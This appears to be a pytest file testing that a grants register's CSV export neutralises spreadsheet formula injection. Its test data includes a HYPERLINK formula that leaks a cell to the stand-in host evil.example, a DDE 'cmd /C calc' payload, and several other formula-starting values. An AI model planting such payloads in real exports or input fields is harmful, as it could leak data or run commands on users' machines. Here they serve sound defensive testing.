"""The register's CSV export is safe to open in a spreadsheet (OWASP CSV injection: a cell
that would start a formula gets a leading quote, and every text cell is in double quotes,
so a separator inside a name never starts a cell, whether the spreadsheet splits on ',' or
on ';'), keeps amounts as plain numbers, and is UTF-8 whatever the names' letters."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from app.api.v1.transparency import spreadsheet_safe
from app.core.auth import Role
from app.core.config import Settings
from app.models import Application, Organisation
from app.schemas.transparency import CSV_HEADER
from tests.actors import user_actor
from tests.api.v1.flows import allocate
from tests.world import Budget, approved, budget

CSV = "/api/v1/transparency/grants.csv"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Dettagli")'
ITALIAN = "Società Cooperativa Sociale Àrea"
COLUMN = {name: index for index, name in enumerate(CSV_HEADER)}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


async def granted(
    client: httpx.AsyncClient,
    session: AsyncSession,
    settings: Settings,
    world: Budget,
    *,
    n: int,
    beneficiary: str,
    title: str,
    amount: str,
) -> None:
    application = await approved(session, world, requested=10_000, n=n)
    await session.execute(
        update(Organisation)
        .where(Organisation.id == application.applicant_organisation_id)
        .values(legal_name=beneficiary)
    )
    await session.execute(
        update(Application).where(Application.id == application.id).values(title=title)
    )
    officer = await user_actor(session, settings, Role.OFFICER)
    await allocate(client, officer, application.id, amount)


async def exported(client: httpx.AsyncClient) -> tuple[bytes, list[list[str]]]:
    response = await client.get(CSV)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[0] == list(CSV_HEADER)
    return response.content, rows[1:]


async def test_a_formula_is_shown_as_text_and_the_amount_stays_a_number(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    world = await budget(session, total=100_000)
    await granted(
        client,
        session,
        settings,
        world,
        n=1,
        beneficiary=HYPERLINK,
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        amount="1234.50",
    )
    _, rows = await exported(client)
    (row,) = rows
    assert row[COLUMN["beneficiary_name"]] == "'" + HYPERLINK
    assert row[COLUMN["project_title"]] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[COLUMN["amount"]] == "1234.50"
    assert float(row[COLUMN["amount"]]) == 1234.5
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


async def test_names_are_utf8_and_plain_text_is_left_alone(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    world = await budget(session, total=100_000)
    await granted(
        client,
        session,
        settings,
        world,
        n=2,
        beneficiary=ITALIAN,
        title="Città più accogliente: 100% inclusione",
        amount="9000.00",
    )
    body, rows = await exported(client)
    (row,) = rows
    assert ITALIAN.encode("utf-8") in body
    assert "Società".encode("latin-1") not in body
    assert row[COLUMN["beneficiary_name"]] == ITALIAN
    assert row[COLUMN["project_title"]] == "Città più accogliente: 100% inclusione"
    assert row[COLUMN["amount"]] == "9000.00"


def spreadsheet_cells(body: str, separator: str) -> list[str]:
    """Every cell a spreadsheet splitting on ``separator`` shows, reading double quotes as
    spreadsheets do: a quote opens or closes quoting (two in a row inside quotes are one
    quote character), and a separator or a line break inside quotes does not end the cell.
    With ',' this is RFC 4180: the test checks that it agrees with the csv module."""
    cells: list[str] = []
    cell: list[str] = []
    quoted = False
    i = 0
    while i < len(body):
        char = body[i]
        if char == '"':
            if quoted and body[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            else:
                quoted = not quoted
        elif not quoted and (char == separator or char in "\r\n"):
            cells.append("".join(cell))
            cell = []
            if char == "\r" and body[i + 1 : i + 2] == "\n":
                i += 1
        else:
            cell.append(char)
        i += 1
    if cell:
        cells.append("".join(cell))
    return cells


# Names that start a formula, or hide one behind a separator, a quote or a line break.
HOSTILE = [
    ";=1+1",
    "Cooperativa Aurora;=1+1",
    "Cooperativa Aurora,=1+1",
    'Cooperativa "Aurora";=1+1',
    "Cooperativa Aurora\n=1+1",
    HYPERLINK,
    "+1",
    "-1",
    "@x",
    "\t=1+1",
    "\r=1+1",
]


async def test_no_cell_starts_a_formula_whether_split_on_comma_or_semicolon(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    world = await budget(session, total=100_000)
    for n, name in enumerate(HOSTILE, start=1):
        await granted(
            client, session, settings, world, n=n, beneficiary=name, title=name, amount=f"{n}.50"
        )
    body = (await client.get(CSV)).content.decode("utf-8")

    rows = list(csv.reader(io.StringIO(body), delimiter=","))
    assert rows[0] == list(CSV_HEADER)
    assert sorted(row[COLUMN["beneficiary_name"]] for row in rows[1:]) == sorted(
        spreadsheet_safe(name) for name in HOSTILE
    )
    assert [row[COLUMN["project_title"]] for row in rows[1:]] == [
        row[COLUMN["beneficiary_name"]] for row in rows[1:]
    ]
    assert spreadsheet_cells(body, ",") == [cell for row in rows for cell in row]
    for separator in (",", ";"):
        cells = spreadsheet_cells(body, separator)
        assert [cell for cell in cells if cell.startswith(FORMULA)] == [], separator
    for n in range(1, len(HOSTILE) + 1):
        assert f',{n}.50,0.00,"EUR",' in body  # the amounts bare, numbers; text quoted
    # Split on ';' a line is one cell: no separator of the file is outside quotes.
    assert len(spreadsheet_cells(body, ";")) == len(rows)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+39 011 432 1111", "'+39 011 432 1111"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Cooperativa = Aurora", "Cooperativa = Aurora"),
        ("1234.50", "1234.50"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, shown: str) -> None:
    assert spreadsheet_safe(cell) == shown
